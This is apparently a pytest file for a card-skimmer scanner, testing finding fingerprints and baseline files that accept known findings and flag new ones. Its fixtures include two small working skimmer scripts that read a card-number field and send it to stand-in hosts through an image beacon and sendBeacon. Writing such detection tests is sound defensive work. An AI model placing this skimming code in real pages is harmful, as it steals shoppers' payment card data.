"""Finding fingerprints and baselines: accept known findings (with a reason), fail on new ones."""

from __future__ import annotations

import json
from dataclasses import replace
from pathlib import Path

import pytest

from skimscan.cli import EXIT_FINDINGS, EXIT_INCOMPLETE, EXIT_OK, exit_code
from skimscan.errors import ConfigError
from skimscan.models import Location, Report, Verdict
from skimscan.pipeline import Engine, analyze_source, scan_files
from skimscan.report.baseline import (
    SCHEMA,
    Baseline,
    BaselineEntry,
    apply_baseline,
    load_baseline,
    render_baseline,
    write_baseline,
)
from skimscan.report.fingerprint import (
    FINGERPRINT_RE,
    normalise_url,
    script_identity,
    target_fingerprints,
)

from .test_report_sarif import PAN, UNMASKED_PAN, sample_report

SKIMMER = """
document.querySelector('#pay').addEventListener('click', function () {
  var n = document.querySelector('#cc_number').value;
  new Image().src = 'https://drop-metrics.top/p?d=' + btoa(n);
});
"""
SECOND_SKIMMER = """
document.querySelector('form').addEventListener('submit', function () {
  var c = document.getElementById('cc_number').value;
  navigator.sendBeacon('https://cdn-paymentz.top/c', c);
});
"""
BENIGN = "document.querySelector('#cc_number').addEventListener('input', function (e) {\n" \
         "  e.target.value = e.target.value.replace(/\\D/g, '');\n});\n"


# --- fingerprints -------------------------------------------------------------------------------


@pytest.mark.parametrize(("a", "b"), [
    ("https://shop.example/js/app.js?v=1", "https://shop.example/js/app.js?v=2"),
    ("https://shop.example/js/app.js?ver=6.4.2", "https://shop.example/js/app.js"),
    ("https://shop.example/js/app.js?_=1700000000000", "http://SHOP.example:80/js/app.js#x"),
    ("https://cdn.example/assets/index-BkQ2x9Za.js", "https://cdn.example/assets/index-Zz81LmQp.js"),
    ("https://cdn.example/main.3f2a9c1b.js", "https://cdn.example/main.77aa01ce.js"),
    ("https://shop.example/static/version1700000000/frontend/app.js",
     "https://shop.example/static/version1800000000/frontend/app.js"),
    ("https://shop.example/a.js?id=GTM-1&t=99&cb=abc", "https://shop.example/a.js?cb=x&id=GTM-1"),
])
def test_cache_busters_do_not_change_a_script_url(a: str, b: str) -> None:
    assert normalise_url(a) == normalise_url(b)


@pytest.mark.parametrize(("a", "b"), [
    ("https://www.googletagmanager.com/gtm.js?id=GTM-SHOP1",
     "https://www.googletagmanager.com/gtm.js?id=GTM-SKIM1"),
    ("https://shop.example/js/modernizr-2.6.1.min.js",
     "https://shop.example/js/modernizr-2.6.2.min.js"),
    ("https://shop.example/js/app.js", "https://shopp.example/js/app.js"),
])
def test_what_names_a_different_script_is_kept(a: str, b: str) -> None:
    assert normalise_url(a) != normalise_url(b)


def test_fingerprints_ignore_lines_ids_and_cache_busters() -> None:
    base = sample_report()
    moved = sample_report(shift=25, buster="1900000000", swap_ids=True)
    for before, after in zip(base.targets, moved.targets, strict=True):
        assert target_fingerprints(before) == target_fingerprints(after)
    prints = target_fingerprints(base.targets[0])
    assert all(FINGERPRINT_RE.match(p) for p in prints)
    assert len(set(prints)) == len(prints)


def test_repeated_matches_are_numbered_in_source_order() -> None:
    page = sample_report().targets[0]
    first = page.findings[0]
    twice = replace(page, findings=(first, replace(first, location=Location(90, 0))))
    a, b = target_fingerprints(twice)
    assert a.split(":")[0] == b.split(":")[0] and (a[-2:], b[-2:]) == (":0", ":1")
    # shift both lines: the numbers stay with their findings
    shifted = replace(twice, findings=tuple(
        replace(f, location=Location(f.location.line + 5, 0)) for f in twice.findings
        if f.location is not None))
    assert target_fingerprints(shifted) == (a, b)


def test_inline_code_is_known_by_its_page_and_files_by_their_path() -> None:
    page = sample_report().targets[0]
    inline = next(s for s in page.scripts if s.kind.value == "inline")
    assert script_identity(inline, page) == "inline@//shop.example/checkout"
    assert script_identity(None, page) == "page@//shop.example/checkout"
    file_target = sample_report().targets[1]
    assert script_identity(file_target.scripts[0], file_target) == "file:build/js/checkout.js"
    absolute = replace(file_target.scripts[0], url="/repo/build/js/checkout.js")
    assert script_identity(absolute, file_target, root="/repo") == "file:build/js/checkout.js"


def test_real_analysis_keeps_fingerprints_through_edits(engine: Engine) -> None:
    before = analyze_source(SKIMMER, "https://shop.example/js/pay.js?v=1", engine=engine)
    edited = "// a new header comment\n\n\n" + SKIMMER.replace("  var n", "      var n")
    after = analyze_source(edited, "https://shop.example/js/pay.js?v=2", engine=engine)
    assert before.findings and [f.location for f in before.findings] != \
        [f.location for f in after.findings]
    assert target_fingerprints(before) == target_fingerprints(after)
    other_host = analyze_source(SKIMMER.replace("drop-metrics.top", "cdn-stats.top"),
                                "https://shop.example/js/pay.js", engine=engine)
    assert set(target_fingerprints(other_host)) != set(target_fingerprints(before))


# --- baseline files ----------------------------------------------------------------------------


def test_write_creates_the_baseline_folder(tmp_path: Path) -> None:
    """`--write-baseline .skimscan/baseline.json` on a first run, as docs/ci.md shows it."""
    path = tmp_path / ".skimscan" / "baseline.json"
    write_baseline(sample_report(), path, "reviewed")
    assert json.loads(path.read_text())["schema"] == SCHEMA


def test_write_then_apply_accepts_every_finding(tmp_path: Path) -> None:
    report = sample_report()
    path = tmp_path / "baseline.json"
    written = write_baseline(report, path, "accepted in review SEC-12")
    data = json.loads(path.read_text())
    assert data["schema"] == SCHEMA == "skimscan/baseline/v1"
    assert len(data["entries"]) == sum(len(t.findings) for t in report.targets)
    for entry in data["entries"]:
        assert {"fingerprint", "rule", "target", "reason"} <= set(entry)
    assert not UNMASKED_PAN.search(path.read_text()) and PAN not in path.read_text()
    # a finding the policy already accepted keeps its own reason
    reasons = {e["rule"]: e["reason"] for e in data["entries"]}
    assert reasons["card-field-read"] == "the processor's own field"
    assert reasons["card-data-to-lookalike-host"] == "accepted in review SEC-12"

    loaded = load_baseline(path)
    assert loaded.entries == written.entries
    applied = apply_baseline(sample_report(shift=3, buster="99"), loaded)
    page, file_target, broken = applied.targets
    assert len(page.findings) == len(report.targets[0].findings)  # suppressed, never dropped
    assert all(f.suppressed for f in page.findings)
    assert page.verdict is Verdict.CLEAN and file_target.verdict is Verdict.CLEAN
    assert next(s for s in page.scripts if s.id == "s1").verdict is Verdict.CLEAN
    assert broken.verdict is Verdict.ERROR  # a failed scan is never accepted away
    assert exit_code(applied, "high", "medium") == EXIT_INCOMPLETE
    assert exit_code(replace(applied, targets=(page, file_target)), "info", "low") == EXIT_OK


def test_a_new_finding_is_not_accepted(tmp_path: Path) -> None:
    report = sample_report()
    baseline = write_baseline(report, tmp_path / "b.json", "known")
    page = report.targets[0]
    new = replace(page.findings[0], evidence={**page.findings[0].evidence,
                                              "host": "new-drop.example"})
    rescanned = replace(report, targets=(replace(page, findings=(*page.findings, new)),))
    applied = apply_baseline(rescanned, baseline)
    [active] = [f for f in applied.targets[0].findings if f.suppressed is None]
    assert active.evidence["host"] == "new-drop.example"
    assert applied.targets[0].verdict is Verdict.MALICIOUS
    assert exit_code(applied, "high", "medium") == EXIT_FINDINGS


def test_baseline_run_then_new_skimmer_end_to_end(tmp_path: Path, engine: Engine) -> None:
    """The issue's done-when, through the library: accept, re-run clean, then a new skimmer."""
    site = tmp_path / "site"
    site.mkdir()
    (site / "pay.js").write_text(SKIMMER)
    (site / "format.js").write_text(BENIGN)
    first = scan_files([site], engine=engine)
    assert exit_code(first, "high", "medium") == EXIT_FINDINGS
    path = tmp_path / "skimscan-baseline.json"
    write_baseline(first, path, "legacy widget, removal tracked in SEC-7", root=str(tmp_path))

    (site / "pay.js").write_text("// reformatted\n\n" + SKIMMER)  # lines move
    second = apply_baseline(scan_files([site], engine=engine), load_baseline(path),
                            root=str(tmp_path))
    assert exit_code(second, "high", "medium") == EXIT_OK
    assert all(t.verdict is Verdict.CLEAN for t in second.targets)

    (site / "format.js").write_text(BENIGN + SECOND_SKIMMER)  # a new skimmer appears
    third = apply_baseline(scan_files([site], engine=engine), load_baseline(path),
                           root=str(tmp_path))
    assert exit_code(third, "high", "medium") == EXIT_FINDINGS
    bad = [t for t in third.targets if t.verdict is Verdict.MALICIOUS]
    assert [Path(t.target).name for t in bad] == ["format.js"]


def test_rendering_is_deterministic_and_needs_a_reason() -> None:
    assert render_baseline(sample_report(), "ok") == render_baseline(
        sample_report(shift=4, started="2030-01-01T00:00:00Z"), "ok")
    with pytest.raises(ConfigError, match="needs a reason"):
        render_baseline(sample_report(), "   ")


def test_first_entry_for_a_fingerprint_wins() -> None:
    fp = "0" * 32 + ":0"
    baseline = Baseline((BaselineEntry(fp, "r", "t", "first"), BaselineEntry(fp, "r", "t", "2")))
    assert baseline.reason_for(fp) == "first" and baseline.reasons() == {fp: "first"}
    assert baseline.reason_for("1" * 32 + ":0") is None


GOOD_ENTRY = {"fingerprint": "ab" * 16 + ":0", "rule": "card-field-read", "target": "x",
              "reason": "ok"}


@pytest.mark.parametrize(("content", "message"), [
    ("{not json", r"b\.json:1: baseline is not valid JSON"),
    ("[]", "a baseline is a JSON object"),
    (json.dumps({"schema": "skimscan/baseline/v0", "entries": []}),
     "unsupported baseline schema 'skimscan/baseline/v0'"),
    (json.dumps({"schema": SCHEMA}), "'entries' must be a list"),
    (json.dumps({"schema": SCHEMA, "entries": ["x"]}), "entry 1: must be an object"),
    (json.dumps({"schema": SCHEMA, "entries": [{**GOOD_ENTRY, "reason": 3}]}),
     "entry 1: missing or non-text reason"),
    (json.dumps({"schema": SCHEMA, "entries": [GOOD_ENTRY, {**GOOD_ENTRY, "reason": " "}]}),
     "entry 2: 'reason' is empty"),
    (json.dumps({"schema": SCHEMA, "entries": [{**GOOD_ENTRY, "fingerprint": "B:12:3"}]}),
     "is not a skimscan v1 fingerprint"),
])
def test_bad_baseline_files_are_config_errors(tmp_path: Path, content: str, message: str) -> None:
    path = tmp_path / "b.json"
    path.write_text(content)
    with pytest.raises(ConfigError, match=message) as info:
        load_baseline(path)
    assert str(path) in str(info.value)


def test_missing_baseline_file_says_how_to_make_one(tmp_path: Path) -> None:
    with pytest.raises(ConfigError, match=r"not found.*--write-baseline"):
        load_baseline(tmp_path / "nope.json")


def test_valid_minimal_file_loads(tmp_path: Path) -> None:
    path = tmp_path / "b.json"
    path.write_text(json.dumps({"schema": SCHEMA, "entries": [GOOD_ENTRY]}))
    [entry] = load_baseline(path).entries
    assert entry == BaselineEntry(GOOD_ENTRY["fingerprint"], "card-field-read", "x", "ok")


def test_apply_keeps_a_report_without_matches_identical() -> None:
    report = sample_report()
    assert apply_baseline(report, Baseline()) == report
    assert isinstance(apply_baseline(report, Baseline()), Report)
